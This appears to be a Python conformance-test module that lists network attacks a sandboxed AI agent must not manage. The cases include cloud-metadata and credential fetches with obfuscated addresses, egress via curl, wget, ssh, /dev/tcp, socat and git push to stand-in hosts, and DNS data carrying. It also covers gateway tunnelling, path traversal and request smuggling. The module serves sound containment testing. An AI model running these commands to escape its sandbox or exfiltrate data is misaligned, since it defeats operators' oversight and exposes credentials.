"""Attacks by network: clouds, the host, the world, and the one way that is open."""

from tests.conformance.attack import SHELL_WON, Attack, bash, python, wins

from alm.standins.model import ToolCall
from orchestrator.domain.agent import Source

_CURL = "curl -sS --noproxy '*' -m 3"
_NOBODY = "203.0.113.7"


def _fetches(name: str, address: str) -> Attack:
    return Attack(name, (wins(f"{_CURL} -g '{address}'"),))


def _opens(name: str, family: int, kind: int, protocol: int) -> Attack:
    return Attack(name, (python("import socket", f"socket.socket({family}, {kind}, {protocol})"),))


def _connects(address: str) -> tuple[ToolCall, ...]:
    return (
        python(
            "import socket",
            "one = socket.socket(socket.AF_UNIX)",
            "one.settimeout(3)",
            f"one.connect({address})",
        ),
    )


CLOUD = (
    _fetches("metadata by address", "http://169.254.169.254/latest/meta-data/"),
    _fetches("metadata by decimal number", "http://2852039166/"),
    _fetches("metadata by hexadecimal number", "http://0xA9FEA9FE/"),
    _fetches("metadata by octal numbers", "http://0251.0376.0251.0376/"),
    _fetches("metadata by version 6", "http://[fd00:ec2::254]/"),
    _fetches("metadata mapped into version 6", "http://[::ffff:169.254.169.254]/"),
    _fetches("metadata by name", "http://metadata.google.internal/computeMetadata/v1/"),
    _fetches("credentials of the task", "http://169.254.170.2/v2/credentials/"),
)

HOST = (
    Attack("a port of the host", (wins(f"{_CURL} http://127.0.0.1:@port@/"),)),
    Attack("a port of the host by version 6", (wins(f"{_CURL} -g 'http://[::1]:@port6@/'"),)),
    Attack("the model's service past the gateway", (wins(f"{_CURL} @model@/v1/messages"),)),
    Attack(
        "a datagram to the host",
        (
            python(
                "import socket",
                "one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
                "one.connect(('127.0.0.1', @udp@))",
                "one.send(b'x')",
                "one.settimeout(2)",
                "one.recv(1)",
            ),
        ),
    ),
    Attack("a unix socket of the host", (wins("timeout 5 socat -u OPEN:/dev/null UNIX-CONNECT:@unix@"),)),
    Attack("an abstract socket of the host", _connects("'\\0@abstract@'")),
)

WORLD = (
    Attack(
        "a name that carries data",
        (wins("getent hosts @mark@.carried.example", "getent ahosts @mark@.carried.example"),),
    ),
    Attack(
        "a datagram to a name server",
        (
            python(
                "import socket",
                "one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
                f"one.sendto(b'x', ('{_NOBODY}', 53))",
            ),
        ),
    ),
    Attack("curl", (wins(f"{_CURL} https://a.example/", f"{_CURL} http://{_NOBODY}/"),)),
    Attack(
        "wget",
        (wins(*(f"wget --no-proxy -T 3 -t 1 -O - http://{host}/" for host in ("a.example", _NOBODY))),),
    ),
    Attack(
        "ssh",
        (
            wins(
                f"timeout 5 ssh -o BatchMode=yes -o ConnectTimeout=3 x@{_NOBODY} true",
                f"(: >/dev/tcp/{_NOBODY}/22)",
            ),
        ),
    ),
    Attack(
        "bash",
        (bash(f"(: >/dev/tcp/{_NOBODY}/80) && {SHELL_WON}; (: >/dev/udp/{_NOBODY}/53) && {SHELL_WON}"),),
    ),
    Attack(
        "python",
        (python("import http.client", "http.client.HTTPConnection('a.example', timeout=3).connect()"),),
    ),
    Attack(
        "node",
        (
            wins(
                f"timeout 10 node -e \"require('net').connect(80, '{_NOBODY}').on('connect', () => process.exit(0))\""
            ),
        ),
    ),
    Attack("socat", (wins(f"timeout 5 socat -u OPEN:/dev/null TCP:{_NOBODY}:80"),)),
    Attack(
        "git to another server",
        (
            wins(
                "timeout 5 git -c http.proxy= ls-remote https://a.example/x.git",
                "timeout 5 git -c http.proxy= push https://a.example/x.git HEAD",
            ),
        ),
    ),
    _opens("a raw socket", 2, 3, 255),
    _opens("an icmp socket", 2, 3, 1),
    _opens("a packet socket", 17, 3, 0),
    _opens("a netlink socket", 16, 3, 0),
    _opens("a socket of the virtual machine", 40, 1, 0),
    _opens("a socket of the kernel's ciphers", 38, 5, 0),
)

# The gateway is on a port inside or a unix socket, as the rung has it.
GATEWAY_CURL = (
    'curl -sS -m 5 -o /dev/null -w "%{http_code}" --path-as-is '
    '${ANTHROPIC_UNIX_SOCKET:+--unix-socket "$ANTHROPIC_UNIX_SOCKET"}'
)
DIAL = (
    "import json, os, socket, urllib.parse",
    "path = os.environ.get('ANTHROPIC_UNIX_SOCKET')",
    "url = urllib.parse.urlsplit(os.environ['ANTHROPIC_BASE_URL'])",
    "one = socket.socket(socket.AF_UNIX if path else socket.AF_INET)",
    "one.settimeout(5)",
    "one.connect(path or (url.hostname, url.port))",
)


def _asks(name: str, request: str, counted_as: str) -> Attack:
    """A request to the gateway that may not be answered by a 2xx."""
    command = f'case "$({GATEWAY_CURL} {request})" in 2*) {SHELL_WON};; esac'
    return Attack(name, (bash(command),), Source.EGRESS, counted_as=counted_as)


def _calls(name: str, body: str, counted_as: str) -> Attack:
    message = '"messages": [{"role": "user", "content": "x"}]'
    head = f'{{"model": "m", "max_tokens": 1, "metadata": {{"user_id": "@slug@"}}, {message}, '
    request = f"-H 'content-type: application/json' -d '{head}{body}}}' \"$ANTHROPIC_BASE_URL/v1/messages\""
    return _asks(name, request, counted_as)


def _says(name: str, head: str, counted_as: str) -> Attack:
    """Bytes to the gateway, which may not be answered by a 2xx."""
    return Attack(
        name,
        (
            python(
                *DIAL,
                f"one.sendall({head!r}.encode().decode('unicode_escape').encode())",
                "answer = one.recv(65536)",
                "print(answer[:60])",
                "assert b' 200' in answer",
            ),
        ),
        Source.EGRESS,
        counted_as=counted_as,
    )


GATEWAY = (
    _asks(
        "files of the model's service", '"$ANTHROPIC_BASE_URL/v1/files?row=@slug@"', "GET /v1/files?row=files"
    ),
    _asks(
        "a file to the model's service",
        '-d x "$ANTHROPIC_BASE_URL/v1/files?row=@slug@"',
        "POST /v1/files?row=a-file",
    ),
    _asks(
        "a batch at the model's service",
        '-d x "$ANTHROPIC_BASE_URL/v1/messages/batches"',
        "POST /v1/messages/batches",
    ),
    _asks(
        "a path that leads elsewhere",
        '-d x "$ANTHROPIC_BASE_URL/v1/messages/../files"',
        "POST /v1/messages/../files",
    ),
    _asks("another method", '-X DELETE "$ANTHROPIC_BASE_URL/v1/messages"', "DELETE"),
    _says(
        "another host through the gateway",
        "GET http://a.example/ HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n",
        "http://a.example/",
    ),
    _says(
        "a tunnel to another host",
        "CONNECT a.example:443 HTTP/1.1\\r\\nHost: a.example:443\\r\\n\\r\\n",
        "CONNECT a.example:443",
    ),
    _says(
        "a tunnel to an address",
        "CONNECT 169.254.169.254:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        "CONNECT 169.254.169.254:443",
    ),
    _says(
        "a tunnel to the host's port",
        "CONNECT 127.0.0.1:@port@ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        "CONNECT 127.0.0.1:",
    ),
    _says(
        "a request hidden in another",
        "POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /v1/files HTTP/1.1\\r\\n\\r\\n",
        "POST /v1/messages",
    ),
    _calls(
        "a search by the model's service",
        '"tools": [{"type": "web_search_20250305", "name": "web_search"}]',
        "a tool of the model",
    ),
    _calls(
        "a server for the model's service",
        '"mcp_servers": [{"type": "url", "url": "https://a.example", "name": "x"}]',
        "a field the agent has no use for",
    ),
    _calls(
        "a page for the model's service",
        '"system": [{"type": "image", "source": {"type": "url", "url": "https://a.example/x.png"}}]',
        "content the model",
    ),
)
